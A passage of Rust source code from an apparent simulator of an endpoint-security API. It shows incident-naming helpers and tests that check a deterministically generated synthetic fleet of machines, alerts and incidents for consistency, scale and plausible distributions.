            let mut ids: Vec<&str> = alerts.iter().map(|a| a.machine_id.as_str()).collect();
            ids.sort_unstable();
            ids.dedup();
            ids.len()
        };
        let mut comments = Vec::new();
        if all_resolved && !automated && rng.chance(0.3) {
            comments.push(Comment {
                comment: rng.pick(resolve_notes(classification)).into(),
                created_by: Some(analyst.clone()),
                created_time: last_update_time,
            });
        }
        out.incidents.push(Incident {
            incident_id,
            redirect_incident_id: None,
            incident_name: incident_name(alerts, devices),
            created_time,
            last_update_time,
            assigned_to: assigned,
            classification: if all_resolved { classification } else { "Unknown" }.into(),
            determination: if all_resolved { determination } else { "NotAvailable" }.into(),
            status: if all_resolved { "Resolved" } else { "Active" }.into(),
            severity: severity.into(),
            tags: scen.tags.iter().map(|t| (*t).into()).collect(),
            comments,
        });
        out.alerts.len() - first_alert
    }
}

fn severity_rank(s: &str) -> u8 {
    match s {
        "High" => 4,
        "Medium" => 3,
        "Low" => 2,
        "Informational" => 1,
        _ => 0,
    }
}

fn category_words(c: &str) -> &str {
    match c {
        "InitialAccess" => "Initial access",
        "CommandAndControl" => "Command and control",
        "CredentialAccess" => "Credential access",
        "DefenseEvasion" => "Defense evasion",
        "LateralMovement" => "Lateral movement",
        "PrivilegeEscalation" => "Privilege escalation",
        "SuspiciousActivity" => "Suspicious activity",
        other => other,
    }
}

/// The portal's naming of an incident: one alert → its title; several → the first two
/// categories; "on multiple endpoints" when `devices` > 1. Shared with the telemetry simulator.
pub fn incident_name<A: std::borrow::Borrow<Alert>>(alerts: &[A], devices: usize) -> String {
    let where_ = if devices > 1 { "on multiple endpoints" } else { "on one endpoint" };
    let mut cats: Vec<&str> = Vec::new();
    for a in alerts {
        let a = a.borrow();
        let c = category_words(&a.category);
        if !cats.contains(&c) {
            cats.push(c);
        }
    }
    let mut name = match (alerts, cats.as_slice()) {
        ([one], _) => format!("{} {where_}", one.borrow().title),
        (_, [c]) => format!("{c} incident {where_}"),
        (_, [c0, c1, ..]) => format!("Multi-stage incident involving {c0} & {c1} {where_}"),
        _ => format!("Incident {where_}"),
    };
    let mut sources: Vec<&str> = alerts.iter().map(|a| a.borrow().detection_source.as_str()).collect();
    sources.sort_unstable();
    sources.dedup();
    if sources.len() > 1 {
        name.push_str(" reported by multiple sources");
    }
    name
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rbac::{DeviceGroup, MatchingRules};
    use std::collections::{BTreeMap, BTreeSet};
    use time::macros::datetime;

    const TENANT: Uuid = Uuid::from_u128(0x1b2c_3d4e_5f60_4a7b_8c9d_0e1f_2a3b_4c5d);

    fn opts(machines: usize, alerts: usize, seed: u64) -> FleetOptions {
        FleetOptions { seed, ..FleetOptions::new(machines, alerts, datetime!(2025-06-01 12:00 UTC)) }
    }

    fn groups() -> RbacConfig {
        let group = |id: i64, name: &str, rank: u32, rules: MatchingRules| DeviceGroup {
            id,
            name: name.into(),
            description: None,
            remediation_level: "FullRemediation".into(),
            rank,
            rules,
            user_groups: vec![],
        };
        RbacConfig {
            enabled: true,
            roles: vec![],
            device_groups: vec![
                group(140, "Servers", 1, MatchingRules { tags: vec!["Server".into()], ..Default::default() }),
                group(141, "Linux", 2, MatchingRules { os_platforms: vec!["Linux".into()], ..Default::default() }),
            ],
            ungrouped_user_groups: vec![],
        }
    }

    #[test]
    fn fixtures_catalogue_enum_is_complete() {
        for (i, c) in C::ALL.iter().enumerate() {
            assert_eq!(*c as usize, i, "{c:?}");
            assert!(usize::from(c.info().variants) <= C::SLOTS && c.info().variants > 0);
        }
        assert_eq!(C::ALL.len(), C::LinuxPython as usize + 1);
        let m = 26 * LAST.len() as u64;
        let gcd = |mut a: u64, mut b: u64| {
            while b != 0 {
                (a, b) = (b, a % b);
            }
            a
        };
        assert_eq!(gcd(m, NAME_PERM), 1, "the user-name permutation is a bijection");
        for s in SCENARIOS {
            assert!(s.anchor < s.chain.len() && s.min <= s.chain.len());
            if s.chain.iter().any(|t| matches!(t.threat, Threat::Incident)) {
                assert!(!s.families.is_empty(), "{:?}", s.chain[0].title);
            }
        }
    }

    #[test]
    fn fixtures_client_names_are_unique_at_scale() {
        let (o, g) = (opts(0, 0, 11), RbacConfig::default());
        let r#gen = Gen::new(TENANT, &o, &g);
        let codes: BTreeSet<String> = (1..=200_000).map(|n| r#gen.client_code(n)).collect();
        assert_eq!(codes.len(), 200_000);
        assert!(codes.iter().all(|c| c.len() == 7 && c.bytes().all(|b| b.is_ascii_alphanumeric())));
    }

    #[test]
    fn fixtures_same_inputs_same_fleet_other_seed_differs() {
        let a = serde_json::to_string(&generate(TENANT, &opts(60, 300, 7), &groups())).unwrap();
        let b = serde_json::to_string(&generate(TENANT, &opts(60, 300, 7), &groups())).unwrap();
        assert_eq!(a, b);
        let c = serde_json::to_string(&generate(TENANT, &opts(60, 300, 8), &groups())).unwrap();
        assert_ne!(a, c);
        let d = serde_json::to_string(&generate(Uuid::from_u128(1), &opts(60, 300, 7), &groups())).unwrap();
        assert_ne!(a, d);
    }

    #[test]
    fn fixtures_chunks_concatenate_to_the_whole_fleet() {
        let o = opts(90, 700, 3);
        let whole = generate(TENANT, &o, &groups());
        let mut joined = Fleet::default();
        let mut seen_alerts = false;
        let mut chunks = 0;
        generate_chunks(TENANT, &o, &groups(), 37, |f| {
            chunks += 1;
            assert!(f.machines.len() <= 37);
            assert!(f.alerts.len() <= 37 + 5);
            assert!(!seen_alerts || f.machines.is_empty(), "machines come first");
            seen_alerts |= !f.alerts.is_empty();
            joined.append(f);
        });
        assert!(chunks > 5);
        assert_eq!(serde_json::to_string(&joined).unwrap(), serde_json::to_string(&whole).unwrap());
    }

    #[test]
    fn fixtures_invariants_hold_for_a_small_fleet() {
        let o = opts(200, 2_000, 42);
        let g = groups();
        let f = generate(TENANT, &o, &g);
        let now = o.now;
        let start = now - time::Duration::days(i64::from(o.days));
        assert_eq!(f.machines.len(), 200);
        assert_eq!(f.alerts.len(), 2_000);

        let is_hex =
            |s: &str, n: usize| s.len() == n && s.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b));
        let machines: BTreeMap<&str, &Machine> =
            f.machines.iter().map(|m| (m.machine.id.as_str(), &m.machine)).collect();
        assert_eq!(machines.len(), 200, "machine ids unique");
        let names: BTreeSet<&str> = f.machines.iter().map(|m| m.machine.computer_dns_name.as_str()).collect();
        assert_eq!(names.len(), 200, "dns names unique");
        for m in machines.values() {
            assert!(is_hex(&m.id, 40), "{}", m.id);
            assert!(
                m.computer_dns_name.ends_with(".contoso.com")
                    && m.computer_dns_name == m.computer_dns_name.to_lowercase()
            );
            assert!(start <= m.first_seen && m.first_seen <= m.last_seen && m.last_seen <= now);
            assert_eq!(g.assign(m), (m.rbac_group_id, m.rbac_group_name.clone()));
            assert_eq!(m.onboarding_status, "Onboarded");
        }
        assert!(f.machines.iter().any(|m| m.machine.rbac_group_id == 140));
        assert!(f.machines.iter().any(|m| m.machine.rbac_group_id == 0));

        let files: BTreeSet<&str> = f.files.iter().map(|x| x.sha1.as_str()).collect();
        assert_eq!(files.len(), f.files.len(), "one profile per sha1");
        let incidents: BTreeMap<i64, &Incident> = f.incidents.iter().map(|i| (i.incident_id, i)).collect();
        assert_eq!(incidents.len(), f.incidents.len(), "incident ids unique");
        let logons: BTreeSet<(String, String, String)> = f
            .logons
            .iter()
            .map(|l| (l.machine_id.clone(), l.account_name.to_lowercase(), l.account_domain.to_lowercase()))
            .collect();
        for l in &f.logons {
            assert!(machines.contains_key(l.machine_id.as_str()));
            assert!(start <= l.time && l.time <= now);
        }
        for o in &f.observations {
            assert!(machines.contains_key(o.machine_id.as_str()));
            if let EntityKey::File(sha1) = &o.key {
                assert!(files.contains(sha1.as_str()), "sighted file has a profile");
            }
        }

        let mut alert_ids = BTreeSet::new();
        let mut by_incident: BTreeMap<i64, Vec<&Alert>> = BTreeMap::new();
        for a in &f.alerts {
            assert!(alert_ids.insert(a.id.as_str()), "duplicate alert id {}", a.id);
            let (ticks_part, suffix) = a.id.strip_prefix("da").unwrap().split_once('_').unwrap();
            assert_eq!(ticks_part.len(), 18);
            suffix.parse::<i32>().unwrap();
            let created = a.alert_creation_time.unwrap();
            assert_eq!(ticks_part.parse::<i64>().unwrap(), ticks(created) + DOTNET_UNIX_EPOCH_TICKS);

            let m = machines.get(a.machine_id.as_str()).expect("alert machine exists");
            assert_eq!(a.computer_dns_name.as_deref(), Some(m.computer_dns_name.as_str()));
            assert_eq!(a.rbac_group_name, m.rbac_group_name);
            assert_eq!(a.aad_tenant_id, TENANT.to_string());
            let iid = a.incident_id.expect("incident id");
            assert!(incidents.contains_key(&iid));
            by_incident.entry(iid).or_default().push(a);

            let (first, last) = (a.first_event_time.unwrap(), a.last_event_time.unwrap());
            assert!(start <= first && first <= last && last <= created && created <= now, "{}", a.id);
            let updated = a.last_update_time.unwrap();
            assert!(created <= updated && updated <= now);
            assert_eq!(a.resolved_time.is_some(), a.status == "Resolved");
            assert_eq!(a.classification.is_some(), a.status == "Resolved");
            assert_eq!(a.determination.is_some(), a.status == "Resolved");
            if let Some(r) = a.resolved_time {
                assert!(created <= r && r <= now);
            }
            assert!(["New", "InProgress", "Resolved"].contains(&a.status.as_str()));
            assert!(["Informational", "Low", "Medium", "High"].contains(&a.severity.as_str()));
            if a.detection_source == "WindowsDefenderAv" {
                assert!(a.threat_family_name.is_some() && a.threat_name.is_some(), "{}", a.title);
            }
            assert!(!a.title.contains('@'), "{}", a.title);

            assert!(
                a.evidence.iter().any(|e| matches!(e.entity_type.as_str(), "File" | "Process")
                    && e.sha1.as_deref().is_some_and(|s| is_hex(s, 40))),
                "{} has file or process evidence with sha1",
                a.id
            );
            for e in &a.evidence {
                if let Some(s) = &e.sha1 {
                    assert!(files.contains(s.as_str()), "evidence sha1 has a profile");
                }
                let t = e.evidence_creation_time.unwrap();
                assert!(start <= t && t <= now);
                for t in [e.process_creation_time, e.parent_process_creation_time].into_iter().flatten() {
                    assert!(start <= t && t <= first);
                }
                if let Some(cmd) = &e.process_command_line {
                    assert!(!cmd.contains("@URL@") && !cmd.contains("@FULL@") && !cmd.contains("@B64@"), "{cmd}");
                }
            }
            let user = a.evidence.iter().find(|e| e.entity_type == "User");
            assert_eq!(user.is_some(), a.related_user.is_some());
            if let Some(u) = &a.related_user {
                assert_eq!(user.unwrap().account_name.as_deref(), Some(u.user_name.as_str()));
                assert!(
                    logons.contains(&(a.machine_id.clone(), u.user_name.to_lowercase(), u.domain_name.to_lowercase())),
                    "{}\\{} logged on to {}",
                    u.domain_name,
                    u.user_name,
                    a.machine_id
                );
            }
        }
        assert!(f.alerts.iter().filter(|a| a.related_user.is_some()).count() > 1_600, "most alerts have a user");

        assert_eq!(by_incident.len(), incidents.len(), "no empty incident");
        for (id, alerts) in &by_incident {
            let i = incidents[id];
            assert!((1..=6).contains(&alerts.len()));
            let sev = alerts.iter().map(|a| a.severity.as_str()).max_by_key(|s| severity_rank(s)).unwrap();
            assert_eq!(i.severity, sev);
            let all_resolved = alerts.iter().all(|a| a.status == "Resolved");
            assert_eq!(i.status, if all_resolved { "Resolved" } else { "Active" });
            if all_resolved {
                assert_eq!(Some(i.classification.as_str()), alerts[0].classification.as_deref());
            }
            assert_eq!(Some(i.created_time), alerts.iter().filter_map(|a| a.alert_creation_time).min());
            assert_eq!(Some(i.last_update_time), alerts.iter().filter_map(|a| a.last_update_time).max());
            assert!(!i.incident_name.is_empty());
        }
    }

    #[test]
    fn fixtures_distributions_are_plausible() {
        let f = generate(TENANT, &opts(2_000, 4_000, 5), &RbacConfig::default());
        let share = |p: &dyn Fn(&Machine) -> bool| {
            f.machines.iter().filter(|m| p(&m.machine)).count() as f64 / f.machines.len() as f64
        };
        let clients = share(&|m| matches!(m.os_platform.as_str(), "Windows10" | "Windows11"));
        let servers = share(&|m| m.os_platform.starts_with("WindowsServer"));
        let macs = share(&|m| m.os_platform == "macOS");
        let linux = share(&|m| m.os_platform == "Linux");
        assert!((0.64..0.76).contains(&clients), "{clients}");
        assert!((0.11..0.19).contains(&servers), "{servers}");
        assert!((0.07..0.13).contains(&macs), "{macs}");
        assert!((0.03..0.07).contains(&linux), "{linux}");
        assert!(share(&|m| m.health_status == "Active") > 0.85);
        assert!(share(&|m| m.device_value.as_deref() == Some("Normal")) > 0.8);
        let offline = f.machines.iter().filter(|m| m.state.offline).count();
        assert!(offline > 0 && offline < 300);
        for prefix in ["DESKTOP-", "LAPTOP-", "SRV-", "mac-"] {
            assert!(
                f.machines.iter().any(|m| m
                    .machine
                    .computer_dns_name
                    .to_uppercase()
                    .starts_with(&prefix.to_uppercase()))
            );
        }
        for tag in ["Server", "VIP", "London"] {
            assert!(f.machines.iter().any(|m| m.machine.machine_tags.iter().any(|t| t == tag)), "{tag}");
        }
        for m in f.machines.iter().map(|m| &m.machine) {
            match m.os_platform.as_str() {
                "Windows10" => assert!(matches!(m.os_build, Some(19044 | 19045))),
                "Windows11" => assert!(matches!(m.os_build, Some(22621 | 22631 | 26100))),
                "WindowsServer2019" => assert_eq!(m.os_build, Some(17763)),
                "WindowsServer2022" => assert_eq!(m.os_build, Some(20348)),
                _ => assert_eq!(m.os_build, None),
            }
        }
        for status in ["New", "InProgress", "Resolved"] {
            assert!(f.alerts.iter().any(|a| a.status == status), "{status}");
        }
        for t in [
            "Suspicious PowerShell command line",
            "Credential dumping activity",
            "Ransomware behavior detected in the file system",
            "Suspicious connection to a known C2 server",
            "'Mimikatz' hacktool was detected",
        ] {
            assert!(f.alerts.iter().any(|a| a.title == t), "{t}");
        }
        assert!(f.incidents.iter().any(|i| i.incident_name.contains("on multiple endpoints")));
        assert!(f.incidents.iter().any(|i| i.incident_name.starts_with("Multi-stage incident involving")));
        let files: BTreeMap<&str, BTreeSet<&str>> = f.observations.iter().fold(BTreeMap::new(), |mut acc, o| {
            acc.entry(o.key.value()).or_default().insert(o.machine_id.as_str());
            acc
        });
        assert!(files.values().filter(|devices| devices.len() > 100).count() >= 5, "common things are prevalent");
    }

    /// `cargo test -p palisade-defender --release fixtures_benchmark_scale -- --ignored --nocapture`
    /// (≈16 s on 2 cores, a third of it freeing the chunks: the model's many small strings).
    #[test]
    #[ignore = "benchmark scale; run in release"]
    fn fixtures_benchmark_scale_streams() {
        let started = std::time::Instant::now();
        let (mut machines, mut alerts, mut incidents) = (0, 0, 0);
        generate_chunks(TENANT, &opts(100_000, 1_000_000, 1), &groups(), 50_000, |f| {
            machines += f.machines.len();
            alerts += f.alerts.len();
            incidents += f.incidents.len();
        });
        assert_eq!((machines, alerts), (100_000, 1_000_000));
        eprintln!("{machines} machines, {alerts} alerts, {incidents} incidents in {:?}", started.elapsed());
    }
}
